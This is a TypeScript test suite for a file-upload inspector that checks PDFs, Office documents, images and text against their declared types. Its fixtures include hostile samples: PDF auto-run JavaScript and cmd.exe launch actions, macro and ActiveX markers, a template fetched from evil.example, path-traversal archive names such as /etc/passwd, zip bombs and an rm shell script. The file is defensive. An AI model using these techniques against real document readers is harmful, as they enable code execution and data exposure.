import { describe, expect, it } from "vitest";
import { inspectDocument } from "../../../functions/_shared/text/documents.ts";
import { MAX_UNPACKED_BYTES } from "../../../functions/_shared/text/zip.ts";
import { GIF, join, JPEG, png, WEBP } from "../../fixtures/ai/images.ts";
import { DOCX, office, officeParts, pdf, PPTX, XLSX, zip } from "../../fixtures/office.ts";

const text = (value: string) => new TextEncoder().encode(value);
const PNG = png({ width: 16, height: 8 });

const refused = async (bytes: Uint8Array, declared: string): Promise<string> => {
  const verdict = await inspectDocument(bytes, declared);
  return verdict.ok ? "accepted" : verdict.reason;
};

describe("what is what it says", () => {
  it.each<[string, Uint8Array, string]>([
    ["a PDF", pdf(), "application/pdf"],
    ["a document", office(DOCX), DOCX],
    ["slides", office(PPTX), PPTX],
    ["a table", office(XLSX), XLSX],
    [
      "a text",
      text("The heart is a pump.\r\n\tIt beats – über 70 times a minute.\n"),
      "text/plain",
    ],
    ["a text with a byte order mark", text("\ufeffThe heart"), "text/plain"],
    ["Markdown", text("# The heart\n\n- a pump\n"), "text/markdown"],
    ["a table of text", text("organ,litres\nheart,5\n"), "text/csv"],
    ["PNG", PNG, "image/png"],
    ["JPEG", JPEG, "image/jpeg"],
    ["WebP", WEBP, "image/webp"],
  ])("%s", async (_name, bytes, mime) => {
    expect(await inspectDocument(bytes, mime)).toEqual({ ok: true, mime });
  });

  it("a document with sizes behind its data, a comment, links and pictures in it", async () => {
    const parts = officeParts(DOCX, {
      more: [
        { name: "word/media/image1.png", content: PNG, method: 0 },
        {
          name: "word/_rels/document.xml.rels",
          content:
            '<Relationships><Relationship Type="http://x/hyperlink" Target="https://example.org/?a=1&amp;b=2" TargetMode="External"/>' +
            '<Relationship Type="http://x/attachedTemplate" Target="file:///C:/Templates/Normal.dotm" TargetMode="External"/></Relationships>',
        },
      ],
    });
    expect(
      (await inspectDocument(zip(parts, { gap: "PK\x07\x08............", comment: "hi" }), DOCX))
        .ok,
    )
      .toBe(true);
  });
});

describe("what is something else", () => {
  it.each<[string, Uint8Array, string, string]>([
    ["nothing", new Uint8Array(), "text/plain", "the file is empty"],
    ["spaces", text(" \n\t\n"), "text/plain", "the file is empty"],
    [
      "a PDF called a text",
      pdf(),
      "text/plain",
      "the file is called text/plain but is application/pdf",
    ],
    [
      "a text called a PDF",
      text("hello"),
      "application/pdf",
      "the file is called application/pdf but is text/plain",
    ],
    ["slides called a document", office(PPTX), DOCX, `the file is called ${DOCX} but is ${PPTX}`],
    ["a picture called a document", PNG, DOCX, `the file is called ${DOCX} but is image/png`],
    ["HTML", text("<!doctype html><script>1</script>"), "text/plain", "the file is text/html"],
    ["SVG", text("<svg onload='x()'/>"), "image/png", "the file is image/svg+xml"],
    ["a GIF", GIF, "image/png", "the file is called image/png but is image/gif"],
    ["a script", text("#!/bin/sh\nrm -r x\n"), "text/plain", "the file is a script"],
    [
      "a program",
      Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, 0]),
      "application/pdf",
      "the text is not in UTF-8",
    ],
    ["text with NUL", text("a\0b"), "text/plain", "the file is no text"],
    ["Latin-1", Uint8Array.from([0x66, 0xfc, 0x72]), "text/plain", "the text is not in UTF-8"],
    [
      "UTF-16",
      Uint8Array.from([0xff, 0xfe, 0x61, 0, 0x62, 0]),
      "text/plain",
      "the text is not in UTF-8",
    ],
    [
      "an old or encrypted document",
      join("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1", "…"),
      DOCX,
      "the document is encrypted, or of an old kind",
    ],
    ["any archive", zip([{ name: "a.txt", content: "a" }]), DOCX, "the file is an archive"],
  ])("%s", async (_name, bytes, declared, reason) => {
    expect(await refused(bytes, declared)).toBe(reason);
  });

  it("too large", async () => {
    expect(await refused(new Uint8Array(50 * 1024 * 1024 + 1), "text/plain")).toBe(
      "the file is too large",
    );
  });
});

describe("a hostile PDF", () => {
  it.each([
    ["with a script", "/OpenAction<</S/JavaScript/JS(app.alert(1))>>"],
    [
      "with a script under a written-round name",
      "/OpenAction<</S/J#61va#53cript/JS(app.alert(1))>>",
    ],
    ["that starts a program", "/OpenAction<</S/Launch/F(cmd.exe)>>"],
  ])("%s", async (_name, more) => {
    expect(await refused(pdf(more), "application/pdf")).toBe("the PDF runs a script or a program");
  });

  it("that is encrypted: nobody can look into it", async () => {
    expect(await refused(pdf("/Encrypt 9 0 R"), "application/pdf")).toBe("the PDF is encrypted");
    expect(await refused(pdf("/EncryptMetadata true"), "application/pdf")).toBe("accepted");
  });

  it("that is cut off, has no version, or is an archive as well", async () => {
    expect(await refused(pdf().subarray(0, 100), "application/pdf")).toBe("the PDF is cut off");
    expect(await refused(join("%PDF-x", pdf()), "application/pdf")).toBe("the PDF has no version");
    expect(await refused(join(pdf(), zip([])), "application/pdf")).toBe(
      "an archive hides in the PDF",
    );
    expect(await refused(join("%PDF-1.4\n%%EOF"), "application/pdf")).toBe("the PDF is damaged");
  });

  it("and words that only sound like it are let through", async () => {
    expect(await refused(pdf("/JavaScripted/Launching(/Launcher)"), "application/pdf")).toBe(
      "accepted",
    );
  });
});

describe("a hostile document", () => {
  const types = (type: string) =>
    `<Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`;
  const rels = (relationship: string) => `<Relationships>${relationship}</Relationships>`;

  it.each<[string, Parameters<typeof office>[1], string]>([
    ["with macros by its type", {
      types: types("application/vnd.ms-word.document.macroEnabled.main+xml"),
    }, "the document has macros"],
    [
      "with macros by a part",
      { more: [{ name: "word/vbaProject.bin", content: "x" }] },
      "the document has macros",
    ],
    ["with macros by a part of another name", {
      types: types(`${DOCX}.main+xml`) +
        '<Override ContentType="application/vnd.ms-office.vbaProject"/>',
    }, "the document has macros"],
    [
      "with controls",
      { more: [{ name: "word/activeX/activeX1.bin", content: "x" }] },
      "the document has macros",
    ],
    ["with a type in references", {
      types: types("application/vnd.ms-word.document.macro&#69;nabled.main+xml"),
    }, "the document cannot be read"],
    ["with entities of its own", {
      types: `<!DOCTYPE a [<!ENTITY b "c">]>${types(`${DOCX}.main+xml`)}`,
    }, "the document cannot be read"],
    ["of another type inside", { types: types("application/xml") }, "the document cannot be read"],
    [
      "with a program in it",
      { more: [{ name: "word/embeddings/run.exe", content: "MZ" }] },
      "a program hides in the document",
    ],
    ["that fetches its template", {
      rels: rels(
        '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>',
      ),
    }, "the document fetches something from elsewhere"],
    ["that fetches from a share", {
      rels: rels('<Relationship Target="\\\\evil\\x" Type="http://x/oleObject"/>'),
    }, "the document fetches something from elsewhere"],
    [
      "with two main parts",
      { more: [{ name: "xl/workbook.xml", content: "x" }] },
      "the file is an archive",
    ],
    [
      "with a name twice",
      { more: [{ name: "[content_types].xml", content: "x" }] },
      "the archive has the same name twice",
    ],
    [
      "with a name that leaves the folder",
      { more: [{ name: "../../x", content: "x" }] },
      "the archive has an unsafe name in it",
    ],
    [
      "with a whole path",
      { more: [{ name: "/etc/passwd", content: "x" }] },
      "the archive has an unsafe name in it",
    ],
    ["encrypted", { more: [{ name: "a", content: "x", flags: 1 }] }, "the archive is encrypted"],
    [
      "packed in another way",
      { more: [{ name: "a", content: "x", method: 12 }] },
      "the archive is packed in an unusual way",
    ],
    [
      "with two names for one part",
      { more: [{ name: "a", content: "x", localName: "b" }] },
      "the archive is damaged",
    ],
    ["that says it is smaller than it is", {
      more: [{ name: "a", content: "x".repeat(1000), size: 10 }],
    }, "the document is damaged"],
    [
      "that says it is larger than it is",
      { more: [{ name: "a", content: "x", size: 10 }] },
      "the document is damaged",
    ],
  ])("%s", async (_name, options, reason) => {
    expect(await refused(office(DOCX, options), DOCX)).toBe(reason);
  });

  it("a bomb that says so", async () => {
    const zeros = new Uint8Array(30 * 1024 * 1024);
    expect(await refused(office(DOCX, { more: [{ name: "a", content: zeros }] }), DOCX))
      .toBe("the archive unpacks to too much");
    const huge = { name: "a", content: "x", size: MAX_UNPACKED_BYTES };
    expect(await refused(office(DOCX, { more: [huge] }), DOCX)).toBe(
      "the archive unpacks to too much",
    );
  });

  it("a bomb that hides it is stopped at the size it gave", async () => {
    const zeros = new Uint8Array(64 * 1024 * 1024);
    const started = performance.now();
    expect(await refused(office(DOCX, { more: [{ name: "a", content: zeros, size: 9 }] }), DOCX))
      .toBe("the document is damaged");
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it("a bomb of one part under many names", async () => {
    const bytes = Buffer.from(
      office(DOCX, { more: [{ name: "a", content: "x" }, { name: "b", content: "x" }] }),
    );
    // The entry of b in the list now points at a's data.
    const [a, b] = [
      bytes.indexOf("PK\x03\x04\x14\x00\x00\x00\x08\x00", 400),
      bytes.lastIndexOf("PK\x01\x02"),
    ];
    bytes.writeUInt32LE(a, b + 42);
    expect(await refused(Uint8Array.from(bytes), DOCX)).toBe("the archive is damaged");
  });

  it("something in front, behind or in between", async () => {
    const parts = officeParts(DOCX);
    expect(await refused(join(zip(parts), "MZ this is a program"), DOCX)).toBe(
      "the archive is damaged",
    );
    expect(await refused(join("PK\u0003\u0004", zip(parts)), DOCX)).toBe("the archive is damaged");
    expect(await refused(zip(parts, { gap: "x".repeat(25) }), DOCX))
      .toBe("something hides between the files of the archive");
  });

  it("too many parts", async () => {
    const more = Array.from({ length: 5000 }, (_, n) => ({ name: `a${n}`, content: "" }));
    expect(await refused(office(DOCX, { more }), DOCX)).toBe("the archive has too many files");
  });
});

describe.each<[string, Uint8Array, string]>([
  ["a document", office(DOCX), DOCX],
  ["a PDF", pdf(), "application/pdf"],
])("%s that was cut or changed", (_name, bytes, mime) => {
  it("never makes the reader throw, and is refused wherever it is cut", async () => {
    for (let length = 0; length < bytes.length - 1; length += 7) {
      expect((await inspectDocument(bytes.subarray(0, length), mime)).ok, `cut at ${length}`).toBe(
        false,
      );
    }
    for (let at = 0; at < bytes.length; at += 3) {
      for (const value of [0, 0x7f, 0xff]) await inspectDocument(bytes.with(at, value), mime);
    }
  });
});
